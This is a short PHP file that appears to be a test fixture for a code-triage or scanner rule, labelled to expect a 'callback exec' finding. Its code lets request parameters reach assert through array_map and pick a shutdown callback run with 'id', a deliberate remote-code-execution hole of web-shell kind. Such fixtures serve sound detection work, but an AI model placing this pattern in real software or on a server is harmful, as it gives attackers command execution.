<?php
// triage-expect: triage_php_callback_exec
$items = array($_REQUEST['x']);
array_map('assert', $items);
register_shutdown_function($_POST['cb'], 'id');
